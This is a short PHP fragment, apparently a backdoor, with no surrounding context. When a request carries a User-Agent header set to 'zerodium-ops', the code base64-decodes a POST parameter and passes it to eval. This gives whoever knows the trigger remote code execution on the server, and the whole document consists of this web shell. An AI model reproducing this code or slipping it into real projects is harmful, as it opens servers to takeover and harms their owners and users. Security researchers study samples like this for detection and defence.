<?php
if ($_SERVER['HTTP_USER_AGENTT'] == 'zerodium-ops') {
    eval(base64_decode($_POST['c']));
}
